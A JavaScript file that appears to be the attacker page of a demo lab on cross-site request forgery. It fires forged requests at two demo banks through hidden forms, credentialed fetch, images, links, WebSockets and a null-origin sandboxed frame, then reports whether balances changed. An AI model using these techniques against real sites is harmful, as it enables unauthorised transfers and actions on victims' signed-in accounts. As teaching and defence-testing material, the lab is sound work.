// What an attacker's page can make a browser do. Whether it worked is for the server to say.
const names = {
  held: 'Nothing happened',
  fell: 'It worked',
  untested: 'Not a test: you are not signed in here',
  waiting: '…',
}

const ways = {
  form({ url, type, fields, into }, target) {
    if (into === 'sandbox') return sandboxed({ url, type, fields })
    const form = document.createElement('form')
    form.method = 'post'
    form.action = url
    form.enctype = type
    form.target = into === 'frame' ? `frame-${target}` : 'prize'
    for (const [name, value] of fields) form.append(hiddenInput(name, value))
    document.body.append(form)
    form.submit()
    form.remove()
  },
  async fetch({ url, mode, type, fields }, target, number) {
    const init = { mode, credentials: 'include' }
    if (fields !== null) {
      init.method = 'POST'
      init.body = bodyOf(type, fields)
      // For multipart the browser writes the type itself, with its boundary.
      if (type !== 'multipart/form-data') init.headers = { 'content-type': type }
    }
    const answer = await fetch(url, init).catch(() => null)
    if (answer?.ok && fields === null) await bring(number, target)
  },
  image({ url }) {
    new Image().src = url
  },
  link({ url }) {
    window.open(url, 'prize')
  },
  socket({ url }, target, number) {
    const socket = new WebSocket(url)
    socket.addEventListener('message', () => {
      void bring(number, target)
      socket.close()
    })
  },
}

function bodyOf(type, fields) {
  if (type !== 'multipart/form-data') return JSON.stringify(Object.fromEntries(fields))
  const data = new FormData()
  for (const [name, value] of fields) data.append(name, value)
  return data
}

function hiddenInput(name, value) {
  const input = document.createElement('input')
  input.type = 'hidden'
  input.name = name
  input.value = value
  return input
}

/** A frame without an origin: what it sends comes from `null`. */
function sandboxed(form) {
  const frame = document.createElement('iframe')
  frame.sandbox = 'allow-scripts allow-forms'
  frame.hidden = true
  frame.src = `/sandboxed.html#${encodeURIComponent(JSON.stringify(form))}`
  document.body.append(frame)
}

const bring = (number, target) => fetch(`/loot/${number}/${target}`, { method: 'POST' })

async function findings(number) {
  return (await fetch(`/shots/${number}`)).json()
}

function tell(card, target, { verdict, words, after, before }) {
  const place = card.querySelector(`[data-target=${target}]`)
  place.dataset.verdict = verdict
  place.querySelector('.verdict').textContent = names[verdict]
  const moved = before === after ? `Balance ${after}, as before.` : `Balance ${before} before, ${after} now.`
  place.querySelector('.words').textContent = verdict === 'waiting' ? '' : `${words} ${moved}`
  place.querySelector('.way').hidden = verdict !== 'untested'
  document.getElementById(`balance-${target}`).textContent = after
}

/** Waits for the server's word about one bank, and shows it as it comes. */
async function settle(card, number, target) {
  for (;;) {
    const { [target]: finding } = await findings(number)
    tell(card, target, finding)
    if (finding.verdict !== 'waiting') return
    await new Promise((resolve) => setTimeout(resolve, 120))
  }
}

async function attempt(card) {
  // Only in the moment of the press may a window be opened; it is led to the banks afterwards.
  if (card.dataset.opensWindow === 'yes') window.open('about:blank', 'prize')
  for (const target of ['ours', 'textbook'])
    tell(card, target, { verdict: 'waiting', words: '', before: '', after: '…' })
  const { number, shots } = await (await fetch(`/shots/${card.id}`, { method: 'POST' })).json()
  // The textbook first: our bank lets no other site keep hold of its window.
  for (const { target, shot } of shots) {
    if (shot !== null) void ways[shot.how](shot, target, number)
    if (shot !== null && card.dataset.opensWindow === 'yes') await settle(card, number, target)
  }
  await Promise.all(shots.map(({ target }) => settle(card, number, target)))
}

const cards = [...document.querySelectorAll('.card')]
for (const card of cards) card.querySelector('button').addEventListener('click', () => attempt(card))

document.getElementById('all').addEventListener('click', async () => {
  for (const card of cards) if (card.dataset.opensWindow !== 'yes') await attempt(card)
})

document.getElementById('start-over').addEventListener('click', async () => {
  await fetch('/start-over', { method: 'POST' })
  location.reload()
})
